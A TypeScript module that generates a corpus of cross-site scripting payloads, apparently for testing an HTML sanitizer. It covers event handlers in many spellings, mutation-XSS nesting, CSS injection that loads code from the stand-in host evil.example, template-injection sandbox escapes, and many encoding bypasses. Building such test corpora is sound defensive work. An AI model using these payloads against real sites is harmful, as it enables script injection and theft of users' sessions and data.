import { ADDRESSES, POSITIONS } from '../addresses.ts';

/* Handlers in every element, addresses in every attribute, styles, templates and encodings: the forms that every list of such texts has. */

const ELEMENTS = (
  'a abbr article audio b body br button canvas center custom-tag details dialog div embed fieldset font form ' +
  'frameset h1 iframe image img input isindex li link map marquee math meter noscript object ol option p picture ' +
  'portal pre progress q ruby s script search section select slot source span style summary svg table template ' +
  'textarea title track ul video xmp'
).split(' ');
const HANDLERS = (
  'onabort onafterprint onanimationend onanimationiteration onanimationstart onauxclick onbeforecopy onbeforecut ' +
  'onbeforeinput onbeforematch onbeforepaste onbeforeprint onbeforetoggle onbeforeunload onbegin onblur onbounce ' +
  'oncancel oncanplay oncanplaythrough onchange onclick onclose oncommand oncontentvisibilityautostatechange ' +
  'oncontextlost oncontextmenu oncopy oncuechange oncut ondblclick ondrag ondragend ondragenter ondragexit ' +
  'ondragleave ondragover ondragstart ondrop ondurationchange onemptied onend onended onerror onfinish onfocus ' +
  'onfocusin onfocusout onformdata onfullscreenchange ongotpointercapture onhashchange oninput oninvalid onkeydown ' +
  'onkeypress onkeyup onload onloadeddata onloadedmetadata onloadend onloadstart onlostpointercapture onmessage ' +
  'onmousedown onmouseenter onmouseleave onmousemove onmouseout onmouseover onmouseup onmousewheel onoffline ' +
  'ononline onpagehide onpagereveal onpageshow onpageswap onpaste onpause onplay onplaying onpointercancel ' +
  'onpointerdown onpointerenter onpointerleave onpointermove onpointerout onpointerover onpointerrawupdate ' +
  'onpointerup onpopstate onprogress onratechange onreadystatechange onrepeat onreset onresize onscroll ' +
  'onscrollend onscrollsnapchange onsearch onsecuritypolicyviolation onseeked onseeking onselect onselectionchange ' +
  'onselectstart onshow onslotchange onstalled onstart onstorage onsubmit onsuspend ontimeupdate ontoggle ' +
  'ontouchcancel ontouchend ontouchmove ontouchstart ontransitioncancel ontransitionend ontransitionrun ' +
  'ontransitionstart onunhandledrejection onunload onvolumechange onwaiting onwebkitanimationend ' +
  'onwebkittransitionend onwheel onzoom'
).split(' ');

/** Each handler in five elements, in five spellings of its name and value. */
const handlers = HANDLERS.flatMap((handler, i) =>
  [0, 1, 2, 3, 4].map((turn) => {
    const element = ELEMENTS[(i * 7 + turn * 23) % ELEMENTS.length]!;
    const call = ['hurt(1)', 'javascript:hurt(1)', '&#104;urt&lpar;1&rpar;', 'top.hurt`1`', '{hurt(1)}'][turn]!;
    const name = [handler, handler.toUpperCase(), `x/${handler}`, `x="\u2028"${handler}`, `\t${handler}\n`][turn]!;
    return `<${element} ${name}="${call}" src="x" tabindex="0" open autofocus style="animation: x 1s">x</${element}>`;
  }),
);

const addresses = ADDRESSES.flatMap(([, address]) => POSITIONS.map(([, markup]) => markup.replaceAll('%', () => address)));

/** What a reader of HTML takes for text in one place and for markup in another, nested in what changes its mind. */
const FOREIGN = 'math svg table select noscript style title textarea xmp iframe noembed template'.split(' ');
const CHILDREN = 'mtext mglyph desc foreignObject annotation-xml style title p'.split(' ');
const nested = FOREIGN.flatMap((outer) =>
  CHILDREN.map((inner) => `<${outer}><${inner}><${outer}><!--</${outer}><img src="x" onerror="hurt(1)">--></${inner}></${outer}>`),
);

const STYLES = [
  'background:url(javascript:hurt(1))',
  'width:expression(hurt(1))',
  '-moz-binding:url(//evil.example/x.xml#x)',
  'behavior:url(//evil.example/x.htc)',
  '@import "//evil.example/x.css"',
  'background:image-set("//evil.example/x" 1x)',
  'list-style:url(//evil.example/x)',
  'position:fixed;inset:0;z-index:2147483647;background:url(//evil.example/x)',
  'content:url(//evil.example/x)',
  'cursor:url(//evil.example/x),auto',
  'mask:url(//evil.example/x.svg#m)',
  'filter:url(//evil.example/x.svg#f)',
  '--x:</style><img src=x onerror=hurt(1)>',
  'font-family:x;src:url(//evil.example/x.woff)',
];
const styles = STYLES.flatMap((style) => [
  `<p style='${style}'>x</p>`,
  `<style>p{${style}}</style>`,
  `<svg><style>*{${style}}</style></svg>`,
  `<div style="${style.replaceAll('"', '&quot;').replaceAll(':', '\\3a ')}">x</div>`,
  `</style><style>${style}`,
]);

const EXPRESSIONS = ['hurt(1)', "constructor.constructor('hurt(1)')()", "this.constructor.constructor('hurt(1)')()", '7*7;hurt(1)'];
const templates = EXPRESSIONS.flatMap((code) =>
  [
    '{{%}}',
    '${%}',
    '#{%}',
    '<%= % %>',
    '{%}',
    '{{{%}}}',
    '[[%]]',
    '@{%}',
    '%{%}',
    '`${%}`',
    '*{%}',
    '~{%}',
    '{% % %}',
    '$(%)',
    '\\x24{%}',
  ].map((form) => form.replaceAll('%', () => code)),
);

const PAYLOADS = [
  '<script>hurt(1)</script>',
  '<img src=x onerror=hurt(1)>',
  '<svg onload=hurt(1)>',
  '"><script>hurt(1)</script>',
  "'-hurt(1)-'",
  '</title><script>hurt(1)</script>',
  '</textarea><img src=x onerror=hurt(1)>',
  ']]><script>hurt(1)</script>',
  '--><img src=x onerror=hurt(1)>',
  'javascript:hurt(1)',
  '<iframe srcdoc="<script>parent.hurt(1)</script>"></iframe>',
  '<a href="javascript:hurt(1)">x</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror=hurt(1)>',
  '<object data="data:text/html,<script>hurt(1)</script>">',
  '<meta http-equiv="refresh" content="0;url=javascript:hurt(1)">',
];
const each = (text: string, change: (code: number, char: string) => string): string =>
  [...text].map((char) => change(char.codePointAt(0)!, char)).join('');
const ENCODINGS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase(),
  (text) => each(text, (code) => `&#${code};`),
  (text) => each(text, (code) => `&#x${code.toString(16)};`),
  (text) => each(text, (code) => `&#${String(code).padStart(8, '0')}`),
  (text) => encodeURIComponent(text),
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => each(text, (code) => `\\u${code.toString(16).padStart(4, '0')}`),
  (text) => each(text, (code) => `\\x${code.toString(16).padStart(2, '0')}`),
  (text) => each(text, (code) => `\\${code.toString(8)}`),
  (text) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (text) => text.replaceAll('<', '\u00ab').replaceAll(' ', '\u3000'),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replaceAll(' ', '\n'),
  (text) => each(text, (_, char) => `${char}\u200b`),
  (text) => each(text, (_, char) => `\u202e${char}`),
  (text) => btoa(text),
  (text) => `data:text/html;base64,${btoa(text)}`,
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&amp;lt;'),
  (text) => text.replaceAll('s', '\u017f').replaceAll('k', '\u212a'),
  (text) => `<![CDATA[${text}]]>`,
  (text) => `<!--${text}-->`,
];
const encoded = PAYLOADS.flatMap((payload) => ENCODINGS.map((encode) => encode(payload)));

export const common: readonly string[] = [...handlers, ...addresses, ...nested, ...styles, ...templates, ...encoded];
